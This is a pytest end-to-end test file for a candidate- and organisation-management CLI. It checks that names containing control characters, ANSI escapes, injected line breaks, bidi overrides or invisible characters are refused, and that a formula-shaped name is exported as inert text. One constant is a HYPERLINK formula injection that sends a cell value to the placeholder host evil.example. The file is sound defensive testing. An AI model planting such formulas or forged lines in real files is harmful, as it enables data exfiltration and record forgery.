"""Issue 11, breaks 4 and 5, through the CLI as written there: hostile names are refused (exit 2, nothing
written) with the rule naming the field, and a name that looks like a formula is exported as inert text."""

from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.e2e.conftest import Cli
from workflow.restructure.columns import BY_FIELD
from workflow.restructure.template import DATA_SHEET

HOSTILE_NAMES = [
    ("Nguyễn\x00Văn An", "text_control_character"),
    ("\x1b[2J\x1b[31mNguyễn Văn An", "text_control_character"),
    ("Nguyễn Văn An\r\ncandidate: Trần Văn B (000000000000) stage official version 9", "text_line_break"),
    ("Nguyễn Văn \u202enA", "text_bidi_character"),
    ("\u200b\u200c\u200d", "text_invisible"),
]
FORMULA = '=HYPERLINK("http://evil.example/?c="&B3,"Nguyễn Văn An")'


def _add(cli: Cli, name: str, expect: int = 0) -> Any:
    return cli.run("candidate", "add", "--org", "CB-01", "--name", name, "--birth-date", "2000-03-15",
                   "--sex", "F", "--education", "university", "--on", "2024-01-10", expect=expect)


@pytest.mark.parametrize(("name", "rule"), HOSTILE_NAMES)
def test_a_hostile_name_is_refused_with_exit_2_and_nothing_is_written(cli: Cli, name: str, rule: str) -> None:
    refused = _add(cli, name, expect=2)

    assert refused["error"] == "rule_violation"
    assert [(v["rule"], v["field"]) for v in refused["violations"]] == [(rule, "full_name")]
    assert cli.run("candidate", "list")["items"] == []


def test_a_line_break_cannot_fake_lines_in_show(cli: Cli) -> None:
    cid = cli.add_candidate()
    before = cli.run("show", cid, as_json=False).stdout

    refused = cli.step(cid, "assign_helper", "2024-01-20",
                       {"helper": "Phạm Văn Bình\r\n  next: recognise_official -> official: ready"}, expect=2)

    assert [(v["rule"], v["field"]) for v in refused["violations"]] == [("text_line_break", "helper")]
    assert cli.run("show", cid, as_json=False).stdout == before
    assert len(cli.run("history", cid)["events"]) == 1


@pytest.mark.parametrize(("name", "rule"), HOSTILE_NAMES)
def test_a_hostile_organisation_name_is_refused_with_its_rule(cli: Cli, name: str, rule: str) -> None:
    before = cli.run("org", "list")

    added = cli.run("org", "add", "CB-09", "--name", name, "--level", "branch", "--parent", "DU-CS", expect=2)
    renamed = cli.run("org", "rename", "CB-01", "--name", name, "--on", "2025-01-01", expect=2)

    for refused in (added, renamed):
        assert [(v["rule"], v["field"]) for v in refused["violations"]] == [(rule, "name")]
    assert cli.run("org", "list") == before


def test_a_name_written_as_a_formula_is_exported_as_inert_text(cli: Cli, tmp_path: Path) -> None:
    _add(cli, FORMULA)
    out = tmp_path / "chi-bo.xlsx"

    assert cli.run("candidate", "export", "--xlsx", str(out), "--org", "CB-01")["rows"] == 1

    cell = load_workbook(out)["Danh sách"]["B2"]
    assert cell.data_type != "f" and cell.value == FORMULA


def test_the_branch_export_still_works_after_a_control_character_was_refused(cli: Cli, tmp_path: Path) -> None:
    cli.add_candidate()
    _add(cli, "Nguyễn\x1bVăn An", expect=2)
    out = tmp_path / "chi-bo.xlsx"

    assert cli.run("candidate", "export", "--xlsx", str(out), "--org", "CB-01")["rows"] == 1
    assert load_workbook(out)["Danh sách"]["B2"].value == "Nguyễn Thị Hoà"


@pytest.mark.parametrize(("name", "rule"), [
    ("Chi bộ\nmới", "text_line_break"), ("Chi bộ \u202emới", "text_bidi_character"), ("\u200b", "text_invisible"),
    ("2025", "name_without_letter")])
def test_a_restructuring_workbook_with_a_hostile_name_is_refused(cli: Cli, tmp_path: Path, name: str,
                                                                  rule: str) -> None:
    path = tmp_path / "ke-hoach.xlsx"
    cli.run("org", "restructure", "--template", str(path))
    book = load_workbook(path)
    ws = book[DATA_SHEET]
    where = {cell.value: cell.column for cell in ws[1]}
    row = {"code": "CB-01", "kind": "Đổi tên", "name": name, "on": "01/07/2025", "decision": "12-QĐ/ĐU"}
    for key, value in row.items():
        ws.cell(2, where[BY_FIELD[key].header]).value = value
    book.save(path)
    before = cli.run("org", "list")

    refused = cli.run("org", "restructure", str(path), expect=2)

    (found,) = refused["violations"]  # the field names the sheet, the cell and the column
    assert found["rule"] == rule and found["field"].endswith(f"2 {BY_FIELD['name'].header}")
    assert cli.run("org", "list") == before
